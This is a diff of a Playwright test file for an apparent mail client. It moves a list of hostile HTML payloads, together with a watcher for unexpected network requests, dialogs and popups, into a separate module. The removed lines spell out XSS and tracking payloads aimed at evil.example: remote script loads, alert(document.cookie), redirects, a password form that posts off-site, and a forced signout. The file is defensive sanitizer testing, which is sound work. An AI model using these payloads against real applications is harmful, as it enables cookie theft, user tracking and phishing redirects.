@@ -2,42 +2,9 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import type { Browser, BrowserContext, Page } from "@playwright/test";
 import type { Control } from "../dev/google/control-client.ts";
-import { hostileHtml } from "../lib/message/fixtures/hostile-html.ts";
+import { attacks, watch } from "./attacks.ts";
 import { expect, type NewReader, test } from "./fixtures.ts";
-import { place } from "./places.ts";
 import type { Person } from "./sign-in.ts";
-
-/** Everything in the browser that a mail has set in motion and must not have. */
-function watch(context: BrowserContext): string[] {
-  const seen: string[] = [];
-  context.on("request", (request) => {
-    const { protocol, origin } = new URL(request.url());
-    if (protocol !== "data:" && origin !== place("latchkey")) seen.push(`request ${request.url()}`);
-  });
-  context.on("dialog", (dialog) => {
-    seen.push(`dialog ${dialog.message()}`);
-    return dialog.dismiss();
-  });
-  context.on("page", (opened) => opened.on("popup", (popup) => seen.push(`popup ${popup.url()}`)));
-  return seen;
-}
-
-const images = "https://evil.example/pixel.png";
-const attacks: readonly string[] = [
-  ...hostileHtml,
-  `<img src="${images}"><img srcset="${images} 2x"><picture><source srcset="${images}"></picture>`,
-  `<p style="background:url(${images})">x</p><style>p{background:url(${images})}@import "${images}";</style>`,
-  `<link rel="stylesheet" href="${images}"><link rel="prefetch" href="${images}"><link rel="preconnect" href="https://evil.example">`,
-  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><a href="x">x</a>`,
-  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-  `<form action="https://evil.example/" method="post"><input name="password" autofocus onfocus="alert(1)"><button>Go</button></form>`,
-  `<svg><script>alert(1)</script><image href="${images}"/><use href="${images}#x"/><animate onbegin="alert(1)"/></svg>`,
-  `<video src="${images}" poster="${images}" autoplay onloadstart="alert(1)"></video><audio src="${images}" autoplay></audio>`,
-  `<object data="${images}"></object><embed src="${images}"><applet code="x"></applet><portal src="https://evil.example/"></portal>`,
-  `<body onload="alert(1)" background="${images}"><marquee onstart="alert(1)">x</marquee></body>`,
-  `<script src="https://evil.example/x.js"></script><script>alert(document.cookie)</script>`,
-  `<img src="/api/auth/signout"><img src="x" onerror="top.location='https://evil.example/'">`,
-];
 
 /** What is left of a mail's markup, as a browser that runs nothing parses it. */
 async function leftOf(judge: Page, markup: string): Promise<string[]> {
